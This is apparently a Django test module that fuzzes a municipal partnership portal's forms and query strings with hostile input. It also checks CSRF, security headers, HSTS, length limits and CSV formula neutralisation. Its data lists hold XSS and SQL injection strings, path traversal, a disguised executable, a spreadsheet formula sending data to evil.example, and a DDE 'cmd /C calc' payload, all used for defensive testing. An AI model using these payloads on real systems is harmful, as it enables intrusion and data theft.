"""Hostile input into every form the portal renders, as the role that sees it.

Each page is fetched, its POST forms are read from the HTML (whatever fields they have today),
and hypothesis fills them with over-long text, control characters, mixed-width and combining
characters, script and SQL fragments, malformed dates and numbers, wrong and oversized files.
Whatever comes in: never a 500, and the raw script never comes back unescaped."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import NoReverseMatch, Resolver404, resolve, reverse
from hypothesis import HealthCheck, Phase, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from .forms import Form, post_forms
from .matrix import EXPECT, KWARGS
from .world import ROLES, World

SCRIPT = '<script>alert("kyodo")</script>'
RAW_MARKERS = [b'<script>alert("kyodo")', b"<img src=x onerror=alert(1)>"]
MAX_UPLOAD = 64 * 1024  # the tests lower KYODO_MAX_UPLOAD_BYTES so an "oversized" file stays small

HOSTILE_TEXT = [
    SCRIPT, '"><img src=x onerror=alert(1)>', "'; DROP TABLE partners_organisation; --", "1 OR 1=1",
    "\x00", "a\x00b", "\x1b[31m\x07\x08", "\u202eevil\u202c", "\ufeff", "\u200b\u200d",
    "ＡＢＣ１２３ｱｲｳ", "ｶﾞｷﾞｸﾞ", "が", "か\u3099", "e\u0301\u0301\u0301", "𠮷野家🍣👨‍👩‍👧", "\ud7ff",
    "あ" * 5000, "x" * 100_000, " ", "\n\n\r\n", "{{ 7*7 }}", "{% debug %}", "%s%s%n", "../../etc/passwd",
    "null", "None", "-1", "0", "1e309", "NaN", "-0", "９９９", "12,34", "2026-02-30", "2026-13-01",
    "0000-00-00", "令和8年4月1日", "2026/4/1", "99999999999999999999999", "-99999999999999999999",
    "javascript:alert(1)", "http://[::1", "mailto:a@b", "a@b", "@@", "ｔｅｓｔ＠ｅｘａｍｐｌｅ．ｊｐ",
]

hostile_text = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=300),
    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Mn", "Zs"]), min_size=1, max_size=40),
    st.builds(lambda a, b: a + SCRIPT + b, st.sampled_from(HOSTILE_TEXT), st.text(max_size=20)),
)

HOSTILE_FILES: list[tuple[str, bytes, str]] = [
    ("report.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "application/pdf"),  # an executable named .pdf
    ("photo.png", b"not a png at all", "image/png"),
    ("script.html", b"<html><script>alert(1)</script></html>", "text/html"),
    ("big.pdf", b"%PDF-1.4\n" + b"0" * (MAX_UPLOAD + 10), "application/pdf"),
    ("empty.pdf", b"", "application/pdf"),
    ('"><script>.pdf', b"%PDF-1.4\n%%EOF\n", "application/pdf"),
    ("../../../../etc/passwd", b"root:x:0:0", "text/plain"),
    ("名前がとても長いファイル" * 30 + ".pdf", b"%PDF-1.4\n%%EOF\n", "application/pdf"),
]


@dataclass(frozen=True)
class FormPage:
    url_name: str
    role: str
    kwargs: Callable[[World], dict[str, Any]] = field(default=lambda w: {})


def _steps() -> list[str]:
    try:
        from projects.views.wizard import STEPS

        return [s.slug for s in STEPS]
    except (ImportError, AttributeError):
        return []


GROUPS: dict[str, list[FormPage]] = {
    "accounts_partners": [
        FormPage("account_signup", "anonymous"),
        FormPage("account_login", "anonymous"),
        FormPage("accounts:me", "citizen"),
        FormPage("partners:organisation_create", "citizen"),
        FormPage("partners:organisation_edit", "citizen", lambda w: {"pk": w.organisation.pk}),
        FormPage("partners:organisation_members", "citizen", lambda w: {"pk": w.organisation.pk}),
        FormPage("partners:organisation_detail", "staff", lambda w: {"pk": w.pending_organisation.pk}),
        FormPage("partners:verification_queue", "staff"),
        FormPage("partners:invitation_accept", "other_citizen", lambda w: {"token": w.invitation.token}),
    ],
    "projects": [
        FormPage("projects:proposal_start", "citizen"),
        *[FormPage("projects:proposal_step", "citizen", lambda w, s=s: {"pk": w.draft_proposal.pk, "step": s})
          for s in _steps()],
        FormPage("projects:proposal_detail", "citizen", lambda w: {"pk": w.submitted_proposal.pk}),
        FormPage("projects:proposal_detail", "staff", lambda w: {"pk": w.submitted_proposal.pk}),
        FormPage("projects:proposal_detail", "staff", lambda w: {"pk": w.screening_proposal.pk}),
        FormPage("projects:proposal_score", "committee", lambda w: {"pk": w.screening_proposal.pk}),
        FormPage("projects:staff_proposal_list", "staff"),
    ],
    "agreements_reviews": [
        FormPage("agreements:edit", "staff", lambda w: {"pk": w.draft_agreement.pk}),
        FormPage("agreements:detail", "citizen", lambda w: {"pk": w.draft_agreement.pk}),
        FormPage("agreements:detail", "staff", lambda w: {"pk": w.agreement.pk}),
        FormPage("agreements:verify", "anonymous"),
        FormPage("reviews:agreement_reviews", "staff", lambda w: {"pk": w.agreement.pk}),
        FormPage("reviews:submit", "citizen", lambda w: {"pk": w.review.pk, "party_pk": w.signed_group_party.pk}),
        FormPage("reviews:detail", "staff", lambda w: {"pk": w.review.pk}),
    ],
    "cases": [
        FormPage("cases:create", "coordinator"),
        FormPage("cases:request", "citizen"),
        FormPage("cases:detail", "coordinator", lambda w: {"pk": w.consultation.pk}),
        FormPage("cases:start_proposal", "coordinator", lambda w: {"pk": w.consultation.pk}),
    ],
}

# Forms that must never be posted by the hostile tests (they end the session or are someone
# else's concern): logout, language switch, allauth's own MFA pages.
SKIP_ACTIONS = ("/accounts/logout", "/i18n/", "/accounts/2fa", "/accounts/mfa")


# Form actions that crash on hostile input in code we do not own: skipped so CI stays green
# while their owners fix them. {url name of the action: "where and how to fix"}. The
# integrator empties this as the fixes land.
KNOWN_CRASHES: dict[str, str] = {}


def collect_forms(world: World, pages: list[FormPage]) -> list[tuple[str, Client, Form]]:
    """(label, logged-in client, form) for every POST form on the group's pages."""
    found = []
    clients: dict[str, Client] = {}
    for page in pages:
        try:
            url = reverse(page.url_name, kwargs=page.kwargs(world) or None)
        except (NoReverseMatch, AttributeError):
            continue
        if page.role not in clients:
            clients[page.role] = Client(raise_request_exception=False)
            if world.user(page.role) is not None:
                clients[page.role].force_login(world.user(page.role))
        client = clients[page.role]
        response = client.get(url)
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        for form in post_forms(response.content.decode(), url):
            if form.action.startswith(SKIP_ACTIONS):
                continue
            try:
                known = resolve(form.action.split("?")[0]).view_name in KNOWN_CRASHES
                if known and not os.environ.get("KYODO_QUALITY_STRICT"):
                    continue
            except Resolver404:
                pass
            found.append((f"{page.url_name} as {page.role} → {form.action}", client, form))
    return found


def fill(form: Form, data: st.DataObject) -> dict[str, Any]:
    """Hostile values for every field a user can type in; choices sometimes valid, sometimes not."""
    out: dict[str, Any] = {}
    for f in form.fields.values():
        if f.name == "csrfmiddlewaretoken":
            continue
        if f.kind == "file":
            name, content, ctype = data.draw(st.sampled_from(HOSTILE_FILES), label=f.name)
            out[f.name] = SimpleUploadedFile(name, content, ctype)
        elif f.kind in {"select", "radio", "checkbox"}:
            valid = f.options or [f.value or "on"]
            out[f.name] = data.draw(st.one_of(st.sampled_from(valid), hostile_text), label=f.name)
        elif f.kind == "hidden":
            out[f.name] = data.draw(st.one_of(st.just(f.value), hostile_text), label=f.name)
        else:
            out[f.name] = data.draw(hostile_text, label=f.name)
    return out


def check(label: str, response, sent: dict[str, Any]) -> None:
    status = response.status_code
    assert status < 500, f"{label}: HTTP {status} for {sent!r}"
    for marker in RAW_MARKERS:
        assert marker not in response.content, f"{label}: unescaped {marker!r} in the response to {sent!r}"


def drive(forms: list[tuple[str, Client, Form]], data: st.DataObject) -> None:
    for label, client, form in forms:
        sent = fill(form, data)
        response = client.post(form.action, sent, follow=True)
        check(label, response, {k: (v[:80] if isinstance(v, str) else v) for k, v in sent.items()})


HYPOTHESIS = hsettings(
    max_examples=15, deadline=None, derandomize=True, database=None,
    # No shrinking: each step re-posts every form of the group, and CI time matters more than
    # a minimal example (the failing one is printed whole).
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.fixture
def small_uploads(settings):
    settings.KYODO_MAX_UPLOAD_BYTES = MAX_UPLOAD


@pytest.mark.parametrize("group", sorted(GROUPS))
def test_hostile_input_never_errors_and_is_escaped(world, small_uploads, group):
    # The forms are read once: what hypothesis draws must not depend on what earlier examples
    # changed in the database.
    forms = collect_forms(world, GROUPS[group])
    assert forms, f"no form found on the {group} pages: is the world missing? {world.missing}"
    if os.environ.get("KYODO_HOSTILE_LIST"):  # which forms are driven, for whoever reads the log
        print("\n".join(f"{label}: {sorted(form.fields)}" for label, _client, form in forms))

    @HYPOTHESIS
    @given(data=st.data())
    def run(data):
        drive(forms, data)

    run()


# --- CSRF and headers ------------------------------------------------------------------------
def test_post_without_csrf_token_is_refused(world):
    client = Client(enforce_csrf_checks=True)
    client.force_login(world.user("citizen"))
    response = client.post(reverse("partners:organisation_create"), {"name": "CSRF"})
    assert response.status_code == 403
    anonymous = Client(enforce_csrf_checks=True)
    assert anonymous.post(reverse("account_login"), {"login": "a@example.jp", "password": "x"}).status_code == 403


def test_post_with_csrf_token_is_accepted(world):
    """The refusal above is CSRF's doing: the same request with the page's token gets through."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(world.user("citizen"))
    url = reverse("partners:organisation_create")
    client.get(url)
    token = client.cookies["csrftoken"].value
    response = client.post(url, {"csrfmiddlewaretoken": token, "name": ""})
    assert response.status_code in {200, 302}


def test_security_headers_on_pages(client, world):
    for url in (reverse("home"), reverse("projects:register_list"), reverse("account_login")):
        response = client.get(url)
        csp = response.headers.get("Content-Security-Policy", "")
        assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
        assert "frame-ancestors 'none'" in csp
        assert response.headers.get("X-Frame-Options") == "DENY"
        assert response.headers.get("X-Content-Type-Options") == "nosniff"
        assert response.headers.get("Referrer-Policy") == "same-origin"


def test_production_profile_sends_hsts():
    """HSTS only makes sense over HTTPS, so the development profile does not send it; the
    production profile (started in a subprocess: settings are read once per process) does."""
    code = (
        "import django, json; django.setup()\n"
        "from django.conf import settings as s\n"
        "from django.test import Client\n"
        "r = Client().get('/health/', secure=True, HTTP_HOST='kyodo.example.jp')\n"
        "print(json.dumps([s.SECURE_HSTS_SECONDS, s.SECURE_HSTS_INCLUDE_SUBDOMAINS, r.headers.get('Strict-Transport-Security', '')]))"
    )
    env = {**os.environ, "KYODO_ENV": "production", "SECRET_KEY": "q" * 60, "ALLOWED_HOSTS": "kyodo.example.jp",
           "DJANGO_SETTINGS_MODULE": "kyodo.settings"}
    env.pop("DEBUG", None)
    done = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60,
                          cwd=Path(__file__).resolve().parents[2])
    assert done.returncode == 0, done.stderr[-2000:]
    seconds, subdomains, header = json.loads(done.stdout.strip().splitlines()[-1])
    assert seconds >= 60 * 60 * 24 * 180 and subdomains
    assert f"max-age={seconds}" in header and "includeSubDomains" in header


# --- Hostile query strings ---------------------------------------------------------------------
# Every page that reads its query string (lists, reports, exports, compare pages: the pages
# without an object in their path, and these), as every role, with query strings hypothesis
# builds from the parameters the portal reads and from anything else: never a 5xx.
QUERY_PAGES_WITH_OBJECTS = ["reviews:opendata_download", "reviews:report_download", "projects:revision_compare",
                            "agreements:compare"]
QUERY_KEYS = ["fy", "page", "status", "section", "q", "kind", "ward", "field", "call", "origin", "department",
              "a", "b", "next", "format", "o", "sort"]
QUERY_EDGES = ["-1", "0", "99999", "99999999999", "1999", "2000", "+2026", "２０２６", "2026.0", "1e3", " 2026 ",
               "9" * 400, "-0", "0x10", "１", "draft", "submitted", "overdue", "new_requests", "all"]
RAW_QUERIES = ["%", "%zz", "%ff%fe=%c0%af", "fy=%00", "&&&", "==", "fy", "page[]=1&page[]=2", ";fy=1",
               "fy=2025&fy=abc", "q=" + "%41" * 3000, "fy=%2B%2B1", "a=1&b=999999999999999999999", "%E3%81"]

query_value = st.one_of(
    st.sampled_from(HOSTILE_TEXT + QUERY_EDGES),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.text(max_size=40),
)
query_string = st.one_of(
    st.lists(st.tuples(st.one_of(st.sampled_from(QUERY_KEYS), st.text(min_size=1, max_size=10)), query_value),
             min_size=1, max_size=6).map(urlencode),
    st.sampled_from(RAW_QUERIES),
)

QUERY_HYPOTHESIS = hsettings(
    max_examples=3, deadline=None, derandomize=True, database=None,
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)


def query_pages(world: World) -> list[tuple[str, str]]:
    """(URL name, URL) of every page some role may GET that reads its query string."""
    names = [n for n, outcomes in EXPECT.items() if "200" in outcomes.split() and n not in KWARGS]
    pages = []
    for name in sorted(names) + QUERY_PAGES_WITH_OBJECTS:
        try:
            pages.append((name, reverse(name, kwargs=KWARGS[name](world) if name in KWARGS else None)))
        except (NoReverseMatch, AttributeError):
            continue
    return pages


# One user of each role; the "other" citizen and staff see what the citizen and staff see.
QUERY_ROLES = [role for role in ROLES if not role.startswith("other_")]


def role_clients(world: World) -> dict[str, Client]:
    clients = {}
    for role in QUERY_ROLES:
        clients[role] = Client(raise_request_exception=False)
        if world.user(role) is not None:
            clients[role].force_login(world.user(role))
    return clients


# Values that gave a 500 before the pages read their parameters through kyodo.params, all at once:
# each page reads its own. Sent first to every page as every role, whatever hypothesis draws.
KNOWN_BAD_QUERY = ("fy=99999999999&page=99999999999999999999999&status=nope&section=nope&call=abc&a=x&b=%00"
                   "&q=%00&ward=abc&kind=x&field=-1&origin=x&department=1e3")


def test_hostile_query_strings_never_error(world):
    pages, clients = query_pages(world), role_clients(world)
    assert len(pages) >= 25, f"the query pages are missing: {world.missing}"
    for name, url in pages:
        for role, client in clients.items():
            status = client.get(f"{url}?{KNOWN_BAD_QUERY}").status_code
            assert status < 500, f"{name} as {role}: HTTP {status} for ?{KNOWN_BAD_QUERY}"

    @QUERY_HYPOTHESIS
    @given(data=st.data())
    def run(data):
        for name, url in pages:
            query = data.draw(query_string, label=name)
            for role, client in clients.items():
                response = client.get(f"{url}?{query}")
                assert response.status_code < 500, f"{name} as {role}: HTTP {response.status_code} for ?{query[:200]}"
                assert b"<script>alert(" not in response.content, f"{name} as {role}: unescaped script for ?{query[:200]}"

    run()


@pytest.mark.parametrize("fy", ["-1", "99999", "99999999999"])
def test_a_fiscal_year_out_of_range_is_corrected_on_pages_and_refused_on_downloads(world, fy):
    from kyodo.fiscal import current_fiscal_year

    client = Client()
    client.force_login(world.user("staff"))
    shown_year = {
        "cases:analysis": lambda context: context["fy"],
        "reviews:report": lambda context: context["report"]["fiscal_year"],
    }
    for name, year_of in shown_year.items():
        page = client.get(reverse(name), {"fy": fy})
        assert page.status_code == 200, name
        assert year_of(page.context) == current_fiscal_year(), name
        assert fy in page.content.decode(), f"{name}: the message does not say what was not understood"
    for url in (reverse("cases:analysis_csv"), reverse("reviews:report_download", args=["csv"]),
                reverse("reviews:report_download", args=["json"]), reverse("reviews:report_print")):
        refused = client.get(url, {"fy": fy})
        assert refused.status_code == 400, url
        assert "fy" in refused.content.decode() and "2000" in refused.content.decode(), url


# --- Free text over its limit: refused with the limit, kept as typed --------------------------------
def test_a_too_long_brushup_message_is_refused_and_kept(world):
    from projects.models import ProposalStatus

    client = Client()
    client.force_login(world.user("staff"))
    proposal = world.submitted_proposal
    text = "予算の根拠を補ってください。" * 7143  # 100,002 characters

    response = client.post(reverse("projects:proposal_return_for_brushup", args=[proposal.pk]), {"note": text})

    html = response.content.decode()
    assert response.status_code == 400
    assert "4000" in html and "100002" in html  # the limit and the count, in the field's error
    assert text in html  # on the page to shorten, not lost
    proposal.refresh_from_db()
    assert proposal.status == ProposalStatus.SUBMITTED


def test_a_too_long_contact_note_is_refused_and_kept(world):
    from django.utils import timezone

    from cases.forms import IN_PERSON_CHANNELS

    client = Client()
    client.force_login(world.user("coordinator"))
    case = world.consultation
    before = case.contacts.count()
    text = "電話で場所の候補を相談した。" * 7143

    response = client.post(reverse("cases:contact_add", args=[case.pk]), {
        "contact-contacted_on": timezone.localdate().isoformat(), "contact-channel": IN_PERSON_CHANNELS[0][0],
        "contact-note": text,
    })

    html = response.content.decode()
    assert response.status_code == 400
    assert "4000" in html and text in html
    assert case.contacts.count() == before


def test_a_message_at_the_limit_is_posted_and_one_over_it_is_kept_on_the_page(world):
    client = Client()
    client.force_login(world.user("citizen"))
    url = reverse("projects:message_post", args=[world.submitted_proposal.pk])

    over = client.post(url, {"body": "あ" * 4001})
    assert over.status_code == 400 and "あ" * 4001 in over.content.decode()
    assert client.post(url, {"body": "い" * 4000}).status_code == 302
    assert world.submitted_proposal.messages.filter(body="い" * 4000).exists()


# --- CSV downloads are safe to open in a spreadsheet -------------------------------------------------
def _csv_rows(response) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_public_and_staff_csv_downloads_neutralise_formulas(world, client):
    from cases.models import Consultation
    from kyodo.fiscal import fiscal_year_of
    from projects.models import Proposal

    formula = '=HYPERLINK("https://evil.example/?"&A1;"詳細")'
    Proposal.objects.filter(pk=world.adopted_proposal.pk).update(title=formula)
    Consultation.objects.filter(pk=world.consultation.pk).update(closed_reason="@SUM(1+1)*cmd|' /C calc'!A0")

    public = _csv_rows(client.get(reverse("reviews:opendata_download", args=["adopted-projects", "csv"])))
    assert "'" + formula in [row["title"] for row in public]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in public for cell in row.values() if cell)

    client.force_login(world.user("staff"))
    fy = fiscal_year_of(world.consultation.opened_at)
    staff = _csv_rows(client.get(reverse("cases:analysis_csv"), {"fy": fy}))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row["closed_reason"] for row in staff]
